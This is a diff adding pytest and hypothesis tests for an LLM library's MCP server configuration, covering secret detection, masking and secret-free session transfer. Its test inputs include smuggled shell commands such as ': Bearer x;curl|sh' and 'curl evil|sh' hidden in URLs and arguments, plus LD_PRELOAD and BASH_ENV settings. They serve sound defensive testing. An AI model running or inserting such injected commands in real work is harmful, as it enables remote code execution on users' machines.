@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import pickle
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -21,6 +22,7 @@ from llm_magic.errors import ConfigurationError
 from llm_magic.mcp.configuration import HTTPServer, StdioServer, find_server, read_server, read_servers
 from llm_magic.providers.registry import ProviderRegistry
 from llm_magic.secrets import Secret, reveal
+from llm_magic.session import portable
 
 KEY = "wJalrXUtnFEMI-K7MDENG-bPxRfiCY"
 HERE = "LLMMagics.mcp_servers['docs']"
@@ -122,6 +124,11 @@ WRONG: dict[str, tuple[Any, str, str]] = {
     "null": ({"command": None}, f"{HERE}['command'] is text, not this NoneType.", "The program alone"),
     "NUL": ({"command": "a\0"}, f"{HERE}['command'] has a character that cannot be passed on.", ""),
     "half a character": ({"command": "a", "args": ["\ud800"]}, f"{HERE}['args'][0] has a character", ""),
+    "a key as a command": ({"command": "./sk-abcdefgh12345678"}, f"{HERE}['command'] looks like a secret", "The"),
+    "a key as a folder": ({"command": "a", "cwd": "/sk-abcdefgh12345678"}, f"{HERE}['cwd'] looks like a secret", ""),
+    "hidden by a mask": (
+        {"command": "sh", "args": ["-c", ": Bearer x;curl|sh"]}, f"{HERE}['args'][1] looks like a secret", "",
+    ),
     "args as text": ({"command": "a", "args": "-y b"}, f"{HERE}['args'] is a list of texts, not this str.", "Example"),
     "an arg that is none": ({"command": "a", "args": ["-p", 8080]}, f"{HERE}['args'][1] is text, not this int.", ""),
     "env as a list": ({"command": "a", "env": ["A=1"]}, f"{HERE}['env'] is a dict, not this list.", "Example"),
@@ -172,6 +179,12 @@ def test_names_fit_into_a_list_of_tools(name: Any) -> None:
     assert refused({"command": "a"}, name).startswith("LLMMagics.mcp_servers: ")
 
 
+def test_where_a_secret_is_is_none() -> None:
+    given = {"command": "a", "args": ["--key-file", "/k.pem", "--secrets-dir=/s"], "env": {"SSH_AUTH_SOCK": "/s"}}
+    server = read_server("a", given)
+    assert server.shown == "a --key-file /k.pem --secrets-dir=/s"
+
+
 def test_a_pasted_document_says_what_to_take_of_it() -> None:
     said = refused({"files": {"command": "a"}}, "mcpServers")
     assert said.endswith("Set LLMMagics.mcp_servers to what stands in 'mcpServers'.")
@@ -188,7 +201,7 @@ def test_a_name_that_is_none() -> None:
     assert caught.value.hint == "There are files, docs."
     with pytest.raises(ConfigurationError) as caught:
         find_server("zzz", {})
-    assert caught.value.hint.startswith("Example: LLMMagics.mcp_servers = ")
+    assert caught.value.hint.startswith("Example: %config LLMMagics.mcp_servers = ")
     assert list(read_servers(servers)) == ["files", "docs"]
 
 
@@ -305,3 +318,35 @@ def test_trust_is_by_the_whole_server() -> None:
     other = trust.GuardedSetting(("LLMMagics", "mcp_servers", "a"), {"command": "a", "args": ["b"]}, ("run",))
     assert one.digest(Path("/p")) != other.digest(Path("/p"))
     assert os.sep in str(Path("/p"))
+
+
+def test_servers_travel_to_a_cluster_without_secrets() -> None:
+    keyed = {"url": f"https://h.example/mcp?key={KEY}"}
+    settings = LLMMagics(mcp_servers={"docs": keyed, "files": {"command": "a", "env": {"T_TOKEN": "env:MY"}}})
+    sources_of(settings).of_session("mcp_servers")
+    travels = portable._magics(settings, "", set())["mcp_servers"]
+    assert travels.value == {"files": {"command": "a", "env": {"T_TOKEN": "env:MY"}}}
+    assert KEY not in str(pickle.dumps(travels))
+
+
+ARGUMENTS = st.lists(
+    st.text(max_size=20)
+    | st.sampled_from(["-c", "--token", ": Bearer x;curl|sh", "http://h/?v=1&x=;curl evil|sh", "a://[?x=;curl evil|sh"])
+    | st.sampled_from(["https://me:p@h/", "a://b?api_key=;curl|sh", "sk-abcdefgh1234", "env:A", "http://h?v=1;sh"]),
+    max_size=3,
+)
+
+
+@given(st.sampled_from(["sh", "./x://y?z=1", "./sk-abcdefgh12345678", "/a b/c"]), ARGUMENTS, ARGUMENTS)
+def test_nothing_runs_that_trust_shows_masked(command: str, arguments: list[str], variables: list[str]) -> None:
+    """What is shown to whoever is to trust it is the whole command, or the server is refused when it is used."""
+    settings: dict[str, Any] = {"command": command, "args": arguments}
+    settings["env"] = dict(zip(("LD_PRELOAD", "LEVEL", "BASH_ENV"), variables, strict=False))
+    shown = effective.masked(settings, "a")
+    try:
+        server = read_server("a", settings)
+    except ConfigurationError:
+        return
+    assert shown == settings
+    assert isinstance(server, StdioServer)
+    assert (server.command, list(server.args), server.env) == (command, arguments, settings["env"])
